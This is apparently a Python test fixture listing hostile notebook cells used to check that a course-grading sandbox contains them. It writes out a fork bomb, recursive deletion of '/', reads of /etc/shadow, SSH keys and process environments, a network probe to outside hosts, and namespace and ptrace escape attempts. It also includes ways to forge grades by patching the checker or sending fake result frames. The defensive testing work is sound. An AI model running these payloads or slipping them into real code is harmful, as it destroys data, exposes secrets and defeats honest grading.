"""What hostile notebooks do, for the tests of the sandbox.

An attack is the source of two things: a cell that runs before the answers, and the body of
`half_life`, which is wrong in every case. So an attack earns what its other answers earn, and
not a point more. `{canary}` is a file of the teacher's, `PORT` a listener on loopback, and
`GRADER` the grader.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """A cell, and the body of half_life.

    said   what the row of half_life says
    slow   it goes on until a deadline
    worse  it spoils its own process, and may lose honest answers too
    """

    cell: str = "pass"
    answer: str = "return f"
    said: str = ""
    slow: bool = False
    worse: bool = False


_FRAMES = """
import json, os
def send(header, body=b""):
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    for d in range(3, 64):
        try: os.write(d, len(raw).to_bytes(4, "big") + raw + body)
        except OSError: pass
"""
# the number that is asked for, and the way out, stand in the frames below
_REPLY = """
import json, sys
def reply(value, arrays=(), body=b"", **other):
    f = sys._getframe()
    while f and not {"sink", "request"} <= set(f.f_locals): f = f.f_back
    told = {"kind": "returned", "value": value, "printed": "", "changed": {"tuple": []},
            "error": "", "line": "", "names": {"tuple": []}, **other}
    message = {"dict": [["number", f.f_locals["request"]["number"]], ["outcome", {"dict": [*told.items()]}]]}
    raw = json.dumps({"message": message, "arrays": arrays}).encode()
    f.f_locals["sink"].write(len(raw).to_bytes(4, "big") + raw + body)
    f.f_locals["sink"].flush()
"""
_NO_ANSWER = "gave no answer: "

ATTACKS: dict[str, Attack] = {
    # time
    "endless loop in a cell": Attack("while True: pass", slow=True),
    "endless loop": Attack(answer="while True: pass", said="it took longer than", slow=True),
    "loop that catches all": Attack(
        answer="while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        said="it took longer than",
        slow=True,
    ),
    "signals ignored": Attack(
        "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass",
        "while True: pass",
        "it took longer than",
        slow=True,
    ),
    "sleep": Attack(answer="import time; time.sleep(1000)", said="it took longer", slow=True),
    "a lock for ever": Attack(
        answer="import threading; threading.Lock().acquire(); l = threading.Lock(); l.acquire()\n"
        "l.acquire()",
        said="it took longer than",
        slow=True,
    ),
    "no interpreter left": Attack(
        # one call of C that never looks at signals
        answer="return sum(range(10**12))",
        said="it took longer than",
        slow=True,
    ),
    "a regular expression": Attack(
        answer="import re; re.match(r'(a+)+$', 'a' * 50 + 'b')", said="it took longer", slow=True
    ),
    # memory
    "10 GB": Attack("a = bytearray(10 * 2**30)", "return bytearray(10 * 2**30)", "MemoryError"),
    "10 GB bit by bit": Attack(answer="a = []\nwhile True: a.append(bytes(2**20))", said="Memory"),
    "many over forks": Attack(
        "import os\nfor _ in range(50):\n    if os.fork() == 0: a = bytearray(2**28)"
    ),
    "memory over threads": Attack(
        "import threading\nfor _ in range(40):\n"
        "    threading.Thread(target=lambda: bytearray(2**28), daemon=True).start()"
    ),
    "huge array": Attack(answer="return np.zeros(2**28, np.int8)", said="too large or too deep"),
    "huge view": Attack(answer="return np.broadcast_to(0.0, (2**40,))", said="too large"),
    "wide text": Attack(
        answer="return ['a'] * 20_000 + ['x' * 50_000]", said="must be an array of real numbers"
    ),
    "many keys": Attack(answer="return {str(k): k for k in range(20_000)}"),
    "huge int": Attack(answer="return 10 ** 10**6", said="got an int"),
    "huge words": Attack(answer="raise ValueError('x' * 10**8)", said="raised ValueError: xxx"),
    "200 MB of output": Attack(
        "import os\nfor _ in range(200): print('x' * 2**20); os.write(1, b'y' * 2**20)"
    ),
    "disk full": Attack(
        "import os\nfor k in range(10000):\n    try: open(f'/student/{k}', 'wb').write(bytes(2**22))\n"
        "    except OSError: pass"
    ),
    "many files": Attack(
        "for k in range(10**5):\n    try: open(f'/student/f{k}', 'w').close()\n"
        "    except OSError: break"
    ),
    "deep recursion": Attack(answer="return half_life(f)", said="raised RecursionError"),
    "deep in C": Attack(
        "class A:\n    def __getattr__(self, n): return getattr(self, n + 'x')\n"
        "import sys; sys.setrecursionlimit(10**9)",
        "return A().x",
    ),
    # processes
    "fork bomb": Attack("import os\nwhile True: os.fork()"),
    "threads": Attack(
        "import threading, time\nfor _ in range(10**4):\n"
        "    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()"
    ),
    "an orphan": Attack("import os\nif os.fork() == 0:\n    os.setsid()\n    os.fork()"),
    "a program": Attack("import subprocess; subprocess.Popen(['/bin/sh', '-c', 'sleep 1000'])"),
    "a shell line": Attack("!sleep 1000 &\n%system id"),
    "sys.exit": Attack(answer="import sys; sys.exit(0)", said="raised SystemExit"),
    "os._exit": Attack(answer="import os; os._exit(0)", said="its process ended with status 0"),
    "segfault": Attack(answer="import ctypes; ctypes.string_at(0)", said=_NO_ANSWER),
    "abort": Attack(answer="import os; os.abort()", said=_NO_ANSWER),
    "SIGKILL to itself": Attack(answer="import os; os.kill(os.getpid(), 9)", said=_NO_ANSWER),
    "kill(0)": Attack(answer="import os; os.kill(0, 9)", said=_NO_ANSWER),
    "kill(-1)": Attack(answer="import os; os.kill(-1, 9)", said=_NO_ANSWER),
    "kill(-1) softly": Attack(
        "import os\nfor s in (1, 2, 15):\n    try: os.kill(-1, s)\n    except OSError: pass"
    ),
    "the grader's process": Attack("import os\nos.kill(GRADER, 15)"),
    "atexit": Attack(
        "import atexit, time; atexit.register(time.sleep, 1000)",
        "import sys; sys.exit(3)",
        "raised SystemExit: 3",
    ),
    "input": Attack("name = input('your name?')", "return input()", "nobody is there to type"),
    # what is not theirs
    "read the canary": Attack("print(open(CANARY).read())"),
    "write the canary": Attack("open(CANARY, 'w').write('mine')"),
    "delete the canary": Attack("import os, shutil; shutil.rmtree(os.path.dirname(CANARY))"),
    "delete all": Attack("import shutil; shutil.rmtree('/', ignore_errors=True)"),
    "read the system": Attack(
        "import os, sys\n"
        # the folders above Python's own are there, and nothing else in them
        "def beside(p): return [n for n in os.listdir(p)"
        " if not any(f'{s}/'.startswith(f'{p}/{n}/') for s in (*sys.path, sys.prefix))]\n"
        "for p in ('/etc/passwd', '/etc/shadow', '/root/.ssh', '/home', '/proc/1/environ',"
        " '/proc/self/maps', '/sys', '/var'):\n"
        "    try:\n"
        "        if found := open(p).read() if os.path.isfile(p) else beside(p):\n"
        "            print('READ', p, found)\n"
        "    except OSError: pass"
    ),
    "read the environment": Attack("import os; print('SECRET' in str(os.environ) and 'READ')"),
    "look for answers": Attack(
        "import os\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n"
        "        if f.startswith(('q04', 'judging', 'lstm_backward', 'test_grading')): print('READ', d, f)"
    ),
    "answers in frames": Attack(
        answer="import sys\nf_ = sys._getframe()\nwhile f_:\n    for v in f_.f_locals.values():\n"
        "        if 'expected' in repr(v)[:10**4] or 'reference' in repr(v)[:10**4]: print('READ')\n"
        "    f_ = f_.f_back\nreturn f"
    ),
    "answers through gc": Attack(
        answer="import gc\nfor o in gc.get_objects():\n"
        "    if type(o).__name__ in ('Question', 'Judgement', 'Misconception'): print('READ', o)\n"
        "return f"
    ),
    "settrace": Attack(
        "import sys\ndef spy(frame, event, arg):\n    if 'reference' in frame.f_code.co_name: print('READ')\n"
        "    return spy\nsys.settrace(spy)"
    ),
    "the hidden modules": Attack(
        "import sys, importlib.util\nsys.meta_path[:] = [m for m in sys.meta_path if 'Hidden' not in"
        " type(m).__name__]\nfor n in ('rnnlab.cells', 'rnnlab.questions', 'rnnlab.check.judging'):\n"
        "    sys.modules.pop(n, None); sys.modules.pop('rnnlab.check', None)\n"
        "    try: print('READ', importlib.import_module(n).__file__)\n    except ImportError: pass"
    ),
    "an earlier student's data": Attack(
        "import os, gc\nprint([n for n in os.listdir('/student') if n not in ('ipython', 'matplotlib')])\n"
        "for o in gc.get_objects():\n    if isinstance(o, dict) and 'MY_SECRET' in o: print('READ', o)\n"
        "import sys\nplaces = ['/student', '/dev/shm', '/tmp', '/run', '/var/tmp', '/dev', '/course']\n"
        "places += [p + n for p in sys.path for n in ('', '/rnnlab', '/torch', '/onnx')]\n"
        "print('READ' if any(os.path.exists(p + '/left') for p in places) else '')\n"
        "MY_SECRET = 1\nfor p in places:\n    try: open(p + '/left', 'w').write('READ')\n"
        "    except OSError: pass"
    ),
    "left where modules are hidden": Attack(
        "import os\nfor d, _, fs in os.walk('/'):\n    if d.startswith('/student'): continue\n"
        "    try: open(d + '/left', 'w').write('mine'); print('READ', d)\n"
        "    except OSError: pass"
    ),
    "a lock that others find": Attack(
        "import fcntl, os\nkept = [open('/dev/null', 'r+b'), open(os.__file__, 'rb')]\n"
        "for file, kind in zip(kept, (fcntl.LOCK_EX, fcntl.LOCK_SH)):\n"
        "    try: fcntl.lockf(file, kind, 1, 7); print('READ')\n"
        "    except OSError: pass"
    ),
    "network": Attack(
        "import socket\nfor a in ('127.0.0.1', '::1', 'example.org', '8.8.8.8'):\n"
        "    try: socket.create_connection((a, PORT), timeout=1).send(b'READ'); print('READ')\n"
        "    except OSError: pass"
    ),
    "sockets by number": Attack(
        "import ctypes\nc = ctypes.CDLL(None)\nfor d in range(3):\n"
        "    if c.socket([2, 1, 16][d], 1, 0) >= 0: print('READ')"
    ),
    "namespaces": Attack(
        "import ctypes\nc = ctypes.CDLL(None)\n"
        "if 0 in (c.unshare(0x10000000), c.unshare(0x20000), c.setns(3, 0), c.chroot(b'/student'),\n"
        "         c.mount(b'x', b'/student', b'tmpfs', 0, 0), c.umount2(b'/proc', 2),\n"
        "         c.pivot_root(b'/student', b'/student')): print('READ')"
    ),
    "trace": Attack(
        "import ctypes\nc = ctypes.CDLL(None)\n"
        "if c.ptrace(0, 0, 0, 0) == 0 or c.ptrace(16, 1, 0, 0) == 0: print('READ')\n"
        "if c.process_vm_readv(1, 0, 0, 0, 0, 0) == 0 and c.syscall(101, 0, 0, 0, 0) == 0: print('READ')"
    ),
    "system calls by number": Attack(
        # io_uring_setup, bpf, perf_event_open, userfaultfd, keyctl, memfd_create, clone3, open_tree
        "import ctypes\nc = ctypes.CDLL(None)\n"
        "print([n for n in (425, 321, 298, 323, 250, 319, 435, 428, 310, 434) if c.syscall(n, 0, 0, 0, 0, 0) >= 0]"
        " and 'READ')"
    ),
    # forgery
    "patched numpy": Attack(
        "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\nnp.asarray = lambda *a, **k: Right()",
        worse=True,
    ),
    "patched check": Attack(
        "import rnnlab, rnnlab.check as c, builtins\nc.check = c.judge = lambda *a, **k: True\n"
        "print('04.half_life: passed, 2 points')\nbuiltins.AssertionError = int"
    ),
    "asserts stripped": Attack("import sys, ast\nast.Assert = ast.Pass\n__debug__ if True else 0"),
    "magic": Attack(
        "class Right:\n    def __eq__(self, o): return True\n    def __array_function__(self, *a): return True\n"
        "    def __array__(self, *a, **k): raise RuntimeError\n    def __float__(self): return 1.0\n"
        "    def __getattr__(self, n): return self\n    def __call__(self, *a, **k): return self",
        "return Right()",
    ),
    "a kernel's messages": Attack(
        "from IPython import get_ipython\nget_ipython().display_pub.publish({'text/plain': 'passed'})\n"
        "get_ipython().run_cell = lambda *a, **k: None\nget_ipython().user_ns.clear()\nimport numpy as np",
        worse=True,
    ),
    "own frames": Attack(
        _FRAMES,
        "send({'message': {'dict': [['number', 99]]}, 'arrays': []})",
        "garbled (it answers another question)",
    ),
    "an outcome of its own": Attack(
        _FRAMES,
        "for n in range(40):\n    send({'message': {'dict': [['number', n], ['outcome', {'dict': [['kind', 'returned'],"
        " ['value', 0.5], ['printed', ''], ['changed', {'tuple': []}], ['error', ''], ['line', ''],"
        " ['names', {'tuple': []}]]}]]}, 'arrays': []})",
        "garbled",
    ),
    "names that are no words": Attack(
        # of many long arrays the words would take minutes
        _REPLY,
        "reply(0.5, [['<f8', [900]]] * 2000, bytes(14400000), names={'tuple': [{'list':"
        " [{'array': k} for k in range(2000)]}]}); return f",
        "what came back was no answer",
        worse=True,
    ),
    "changed inputs that are no words": Attack(
        _REPLY,
        "reply(0.5, [['<f8', [2]]], bytes(16), changed={'tuple': [{'array': 0}]}); return f",
        "what came back was no answer",
        worse=True,
    ),
    "all cores": Attack(
        "import threading, hashlib\ndef burn():\n    while True: hashlib.sha256(bytes(2**20))\n"
        "for _ in range(30): threading.Thread(target=burn, daemon=True).start()"
    ),
    "bad UTF-8": Attack(_FRAMES, "send(b'\\xff\\xfe')", "garbled (the header is no JSON)"),
    "deep JSON": Attack(_FRAMES, "send(b'[' * 10**6)", "garbled (the header is no JSON)"),
    "a lying length": Attack(
        _FRAMES, "import os\nfor d in range(3, 64):\n    try: os.write(d, b'\\xff' * 4)\n"
        "    except OSError: pass", "garbled (a header of 4294967295 bytes)",
    ),
    "a length and no more": Attack(
        answer="import os, time\nfor d in range(3, 64):\n    try: os.write(d, b'\\0\\0\\1\\0')\n"
        "    except OSError: pass\ntime.sleep(1000)",
        said="it took longer than",
        slow=True,
    ),
    "a drip": Attack(
        answer="import os, time\nwhile True:\n    for d in range(3, 8):\n        try: os.write(d, b'\\0')\n"
        "        except OSError: pass\n    time.sleep(0.05)",
        said="gave no answer",
    ),
    "huge arrays promised": Attack(
        _FRAMES, "send({'message': 1, 'arrays': [['<f8', [2**40]]]})", "garbled"
    ),
    "the channel closed": Attack(answer="import os; os.closerange(0, 100)", said=_NO_ANSWER),
    "descriptors over the channel": Attack(
        "import socket, array\nfor d in range(3, 10):\n    try:\n"
        "        s = socket.socket(fileno=d); s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,"
        " array.array('i', [0]))]); print('READ')\n    except OSError: pass"
    ),
    # odd values
    "changed inputs": Attack(answer="f[...] = 0.5 if np.ndim(f) else 0; return f"),
    "NaN": Attack(answer="return np.log(0.5) / np.log(f) * np.nan"),
    "object arrays": Attack(answer="return np.array([f], dtype=object)"),
    "an array of its own": Attack(
        "class Sub(np.ndarray):\n    def __array_wrap__(self, *a): return 1 / 0\n"
        "    def __reduce__(self): import os; os._exit(0)",
        "return np.zeros(3).view(Sub)",
    ),
    "a list of itself": Attack(answer="a = []; a.append(a); return a", said="too large or too deep"),
    "a dict of itself": Attack(answer="a = {}; a['a'] = a; return a", said="too large or too deep"),
}  # fmt: skip
